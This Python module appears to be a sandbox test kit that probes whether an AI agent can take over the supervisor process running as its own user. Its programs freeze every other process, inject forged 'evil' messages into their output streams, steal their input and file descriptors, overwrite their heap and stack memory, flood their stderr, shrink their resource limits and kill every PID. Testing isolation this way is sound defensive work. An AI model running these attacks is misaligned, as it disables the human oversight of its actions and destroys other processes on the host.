"""Taking over the supervisor: it runs as the agent's own user, beside its commands."""

from __future__ import annotations

import os
import signal
import struct
import time

from .kit import Facts, Report, call, pids, program, read


def others() -> list[int]:
    """All other processes; the supervisor is among them."""
    return [pid for pid in pids() if pid != os.getpid()]


@program
def stop(report: Report, facts: Facts) -> None:
    """Stop every other process, for as long as this one lives."""
    for pid in others():
        report.attempt(f"stop {pid}", lambda pid=pid: os.kill(pid, signal.SIGSTOP))  # type: ignore[misc]
    time.sleep(float(facts["last"]))
    for pid in others():
        report.attempt(f"continue {pid}", lambda pid=pid: os.kill(pid, signal.SIGCONT))  # type: ignore[misc]


@program
def speak(report: Report, facts: Facts) -> None:
    """Write answers of one's own to the streams of every other process, and read its requests away."""
    lie = b"D" + struct.pack(">I", 1) + struct.pack(">I", 4) + b"evil"
    for pid in others():
        for number in (1, 2):

            def put(pid: int = pid, number: int = number) -> None:
                handle = os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
                for _ in range(50):
                    os.write(handle, lie)

            report.attempt(f"stream {number} of {pid}", put)

        def take(pid: int = pid) -> None:
            handle = os.open(f"/proc/{pid}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
            report.saw(os.read(handle, 1000).decode("latin-1"))

        report.attempt(f"input of {pid}", take)
        report.attempt(f"descriptor of {pid}", lambda pid=pid: _descriptor(pid, lie))  # type: ignore[misc]


def _descriptor(pid: int, lie: bytes) -> None:
    taken = call("pidfd_getfd", call("pidfd_open", pid, 0), 1, 0)
    os.write(taken, lie)


@program
def memory(report: Report, facts: Facts) -> None:
    """Write over the memory of every other process: all of its data turns to nonsense."""
    for pid in others():

        def scribble(pid: int = pid) -> None:
            rows = read(f"/proc/{pid}/maps", 1 << 16).decode().splitlines()
            handle = os.open(f"/proc/{pid}/mem", os.O_RDWR)
            for row in rows:
                if " rw-p" in row and ("[heap]" in row or "[stack]" in row):
                    start = int(row.split("-")[0], 16)
                    os.pwrite(handle, b"\xff" * 4096, start + 4096)

        report.attempt(f"memory of {pid}", scribble)
        report.attempt(f"attach to {pid}", lambda pid=pid: call("ptrace", 16, pid, 0, 0))  # type: ignore[misc]


@program
def flood(report: Report, facts: Facts) -> None:
    """Fill the standard error of every other process: nobody reads it, or somebody keeps it."""
    for pid in others():

        def pour(pid: int = pid) -> None:
            handle = os.open(f"/proc/{pid}/fd/2", os.O_WRONLY | os.O_NONBLOCK)
            end = time.monotonic() + 2
            sent = 0
            while time.monotonic() < end and sent < 400 << 20:
                try:
                    sent += os.write(handle, b"x" * 65536)
                except BlockingIOError:
                    time.sleep(0.01)

        report.attempt(f"errors of {pid}", pour)


@program
def kill(report: Report, facts: Facts) -> None:
    """Kill everything: by every number that there can be, and all at once."""
    for pid in range(1, 33000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue
    report.attempt("all at once", lambda: os.kill(-1, signal.SIGKILL))


@program
def limits(report: Report, facts: Facts) -> None:
    """Change the limits of every other process, so that the supervisor can open, write or start nothing."""
    import resource

    for pid in others():
        for number in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
            report.attempt(
                f"{number} of {pid}",
                lambda pid=pid, number=number: resource.prlimit(pid, number, (1, 1)),  # type: ignore[misc]
            )
